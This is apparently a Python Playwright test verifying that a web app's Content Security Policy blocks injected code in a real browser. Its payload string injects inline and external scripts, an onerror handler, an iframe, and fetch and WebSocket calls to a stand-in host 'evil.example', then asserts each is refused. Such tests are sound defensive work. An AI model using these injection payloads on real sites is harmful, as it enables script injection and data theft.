"""The content security policy in a real browser: injected code does nothing."""

from playwright.sync_api import expect

from tests.browser.screens import Screens

SMUGGLE = """() => {
  window.broken = [];
  document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "window.smuggled = true";
  document.body.append(script);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example/x.js";
  document.body.append(foreign);
  const nest = document.createElement("div");
  nest.innerHTML = '<img src="data:," onerror="window.smuggled = true"><b style="color: red">x</b>'
    + '<object data="/icon.svg"></object><iframe src="https://evil.example/"></iframe>';
  document.body.append(nest);
  fetch("https://evil.example/?token").catch(() => {});
  try { new WebSocket("wss://evil.example/"); } catch {}
}"""
# Each blocked attempt is reported as a violation.
REFUSED = ["script-src-elem", "script-src-attr", "style-src-attr", "object-src", "connect-src", "frame-src"]
ALL_REFUSED = "(wanted) => wanted.every((directive) => window.broken.includes(directive))"


def test_what_is_smuggled_into_the_page_does_nothing(screens: Screens) -> None:
    screens.watch.forgive("Content Security Policy|content security policy|violates the following|evil.example")
    page = screens.blank()
    page.goto("/")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    page.evaluate(SMUGGLE)
    page.wait_for_function(ALL_REFUSED, arg=REFUSED)
    assert page.evaluate("window.smuggled === undefined")
    assert page.evaluate("document.cookie") == ""
    assert page.context.cookies() == []
    # The browser also reports requests that it blocked.
    screens.watch.trouble = [told for told in screens.watch.trouble if "evil.example" not in told]
